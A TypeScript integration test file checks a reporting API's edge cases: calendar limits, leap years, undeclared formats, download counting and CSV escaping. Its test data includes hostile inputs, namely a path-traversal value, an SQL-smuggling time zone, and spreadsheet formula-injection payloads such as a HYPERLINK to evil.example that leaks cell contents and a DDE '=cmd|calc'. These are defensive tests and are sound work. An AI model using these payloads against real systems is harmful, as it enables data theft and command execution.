import {
  type EndpointSpec,
  FOUR_C_ENDPOINTS,
  HIT_COUNTER_ENDPOINTS,
  LAYOUT_SEARCH_REPORT_ENDPOINTS,
  LOGIN_REPORT_ENDPOINTS,
  LOGIN_SUMMARY_ENDPOINTS,
  PAGE_VISIT_ENDPOINT,
  PAGE_VISIT_LIMITS,
  pathOf,
  REPORT_MESSAGES,
  SEARCH_DAY_ENDPOINTS,
  SEARCH_SOLD_ENDPOINTS,
  SEARCH_SUMMARY_ENDPOINTS,
} from '@facet/contract';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rowsOf } from '../src/db/sql-rows.ts';
import { databaseAvailable, startServer, type TestServer } from './harness.ts';
import { adminToken } from './sign-in.ts';

/** Every report of the panel: its page and its file. */
const REPORTS: readonly { paginate: EndpointSpec; export: EndpointSpec }[] = [
  HIT_COUNTER_ENDPOINTS,
  LAYOUT_SEARCH_REPORT_ENDPOINTS,
  LOGIN_REPORT_ENDPOINTS,
  LOGIN_SUMMARY_ENDPOINTS,
  SEARCH_SUMMARY_ENDPOINTS,
  SEARCH_DAY_ENDPOINTS,
  FOUR_C_ENDPOINTS,
  SEARCH_SOLD_ENDPOINTS,
];

/**
 * The reports checked at the calendar's first and last weeks with an empty answer. The search reports
 * answer a row for each day or cell even when empty, and are rewritten as this is written: add them
 * with their own expectations once they settle.
 */
const ANSWERED_AT_EDGES = [HIT_COUNTER_ENDPOINTS, LAYOUT_SEARCH_REPORT_ENDPOINTS];

const ON_POSTGRES = process.env.FACET_TEST_DB === 'postgres';

interface Envelope {
  code: string;
  message: string;
  errors?: { field: string; message: string }[];
}

/** Report bodies a hostile caller sends: the calendar's edges, and what a report does not declare. */
describe.skipIf(!(await databaseAvailable()))('report edges', () => {
  let server: TestServer;
  let token: string;

  const post = (path: string, body: unknown, as = token) =>
    fetch(`${server.url}/${path}`, {
      method: 'POST',
      headers: { authorization: `JWT ${as}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  const envelope = async (response: Response) => (await response.json()) as Envelope;
  const downloads = async () => {
    const [row] = rowsOf<{ count: number }>(
      await server.database.db.execute(
        sql`select count(*)::int as count from report_logs where action = 'download'`,
      ),
    );
    return Number(row?.count ?? 0);
  };

  beforeAll(async () => {
    server = await startServer({ JOBS_INTERVAL_SECONDS: '3600' });
    token = await adminToken(server, server.client());
  }, 180_000);
  afterAll(async () => {
    await server?.close();
  });

  it('refuses a period ending on the last day of 9999 with its reason, on every page and file', async () => {
    for (const report of REPORTS) {
      for (const endpoint of [report.paginate, report.export]) {
        const response = await post(pathOf(endpoint), {
          from: '9999-12-25',
          to: '9999-12-31',
          page: 1,
          limit: 20,
          format: 'csv',
        });
        const answer = await envelope(response);
        expect(response.status, `${pathOf(endpoint)} ${JSON.stringify(answer)}`).toBe(400);
        expect(answer.errors).toEqual([{ field: 'to', message: REPORT_MESSAGES.periodEnd }]);
      }
    }
  });

  it('answers the first and the last weeks of the calendar with empty figures', async () => {
    for (const report of ANSWERED_AT_EDGES) {
      for (const [from, to] of [
        ['0001-01-01', '0001-01-07'],
        ['9999-12-24', '9999-12-30'],
      ]) {
        const response = await post(pathOf(report.paginate), { from, to, page: 1, limit: 20 });
        const answer = (await response.json()) as Envelope & { data?: { list: unknown[]; count: number } };
        expect(response.status, `${pathOf(report.paginate)} ${from} ${JSON.stringify(answer)}`).toBe(200);
        expect(answer.data).toMatchObject({ list: [], count: 0 });
      }
    }
  });

  it('reads 29 February in leap years only, and three years and a day at most', async () => {
    const page = (from: string, to: string) =>
      post(pathOf(HIT_COUNTER_ENDPOINTS.paginate), { from, to, page: 1, limit: 20 });
    const notLeap = await page('2025-02-29', '2025-03-01');
    expect(notLeap.status).toBe(400);
    expect((await envelope(notLeap)).errors).toEqual([{ field: 'from', message: 'Choose a valid date.' }]);
    expect((await page('2024-02-29', '2024-03-01')).status).toBe(200);
    // 2023, 2024 (a leap year) and 2025: three years and a day.
    expect((await page('2023-01-01', '2025-12-31')).status).toBe(200);
    const longer = await page('2022-12-31', '2025-12-31');
    expect(longer.status).toBe(400);
    expect((await envelope(longer)).errors).toEqual([{ field: 'to', message: REPORT_MESSAGES.periodLength }]);
  });

  it('refuses a file format or a time zone a report does not declare, in plain words', async () => {
    const period = { from: '2026-11-01', to: '2026-11-07' };
    for (const format of ['html', 'CSV', '../../etc/passwd', null]) {
      const response = await post(pathOf(HIT_COUNTER_ENDPOINTS.export), { ...period, format });
      expect(response.status, String(format)).toBe(400);
      expect((await envelope(response)).errors).toEqual([
        { field: 'format', message: REPORT_MESSAGES.format },
      ]);
    }
    for (const timeZone of ['Mars/Olympus', '+05:30', 'UTC; select 1', 'x'.repeat(65)]) {
      const response = await post(pathOf(HIT_COUNTER_ENDPOINTS.export), { ...period, timeZone });
      expect(response.status, timeZone).toBe(400);
      expect((await envelope(response)).errors?.[0]?.field).toBe('timeZone');
    }
  });

  it('counts no download for a file that never left: a first read the database refused', async () => {
    const before = await downloads();
    // The roll-up the hit counter reads is gone for one request, as a failing database would have it.
    await server.database.db.execute(sql`alter table page_visit_daily rename to page_visit_daily_away`);
    try {
      const failed = await post(pathOf(HIT_COUNTER_ENDPOINTS.export), {
        from: '2026-11-01',
        to: '2026-11-07',
        format: 'csv',
      });
      expect(failed.status).toBe(500);
      expect((await envelope(failed)).code).toBe('E_ERROR');
    } finally {
      await server.database.db.execute(sql`alter table page_visit_daily_away rename to page_visit_daily`);
    }
    expect(await downloads()).toBe(before);
    const sent = await post(pathOf(HIT_COUNTER_ENDPOINTS.export), {
      from: '2026-11-01',
      to: '2026-11-07',
      format: 'csv',
    });
    expect(sent.status).toBe(200);
    await sent.text();
    expect(await downloads()).toBe(before + 1);
  });

  it('writes visited pages that look like formulas as plain text in the CSV', async () => {
    const pages = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1+1)', '-2+3', '@SUM(A1)'];
    for (const page of pages) {
      const visit = await post(pathOf(PAGE_VISIT_ENDPOINT), { page, device: '=cmd|calc' });
      expect(visit.status, page).toBe(200);
    }
    const today = new Date().toISOString().slice(0, 10);
    const file = await post(pathOf(HIT_COUNTER_ENDPOINTS.export), { from: today, to: today, format: 'csv' });
    expect(file.status).toBe(200);
    const lines = (await file.text()).split(/\r?\n/).slice(1);
    // A leading quote makes a spreadsheet show the cell as text; the CSV quotes a cell holding quotes.
    expect(
      lines.some((line) => line.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,`)),
    ).toBe(true);
    for (const page of pages.slice(1)) {
      expect(
        lines.some((line) => line.startsWith(`'${page},1,`)),
        page,
      ).toBe(true);
    }
  });

  it.runIf(ON_POSTGRES)(
    'holds the visit pace across two instances on one database',
    async () => {
      const second = await startServer({
        DATABASE_URL: server.config.databaseUrl as string,
        JWT_SECRET: server.config.jwtSecret as string,
        JOBS_INTERVAL_SECONDS: '3600',
      });
      // The visits of the tests before count in this minute's pace: it starts afresh.
      await server.database.db.execute(sql`delete from page_visit_pace`);
      try {
        const calls = Array.from({ length: 100 }, (_, index) =>
          fetch(`${(index % 2 ? second : server).url}/${pathOf(PAGE_VISIT_ENDPOINT)}`, {
            method: 'POST',
            headers: { authorization: `JWT ${token}`, 'content-type': 'application/json' },
            body: JSON.stringify({ page: 'Pace across instances' }),
          }).then(async (response) => ({
            status: response.status,
            recorded: ((await response.json()) as { data: { recorded: boolean } }).data.recorded,
          })),
        );
        const answers = await Promise.all(calls);
        expect(answers.every((answer) => answer.status === 200)).toBe(true);
        expect(answers.filter((answer) => answer.recorded)).toHaveLength(PAGE_VISIT_LIMITS.perMinute);
        const [row] = rowsOf<{ count: number }>(
          await server.database.db.execute(
            sql`select count(*)::int as count from page_tracking where page = 'Pace across instances'`,
          ),
        );
        expect(Number(row?.count)).toBe(PAGE_VISIT_LIMITS.perMinute);
      } finally {
        await second.close();
      }
    },
    // A second server to start, and a hundred requests: longer than a request's test.
    120_000,
  );
});
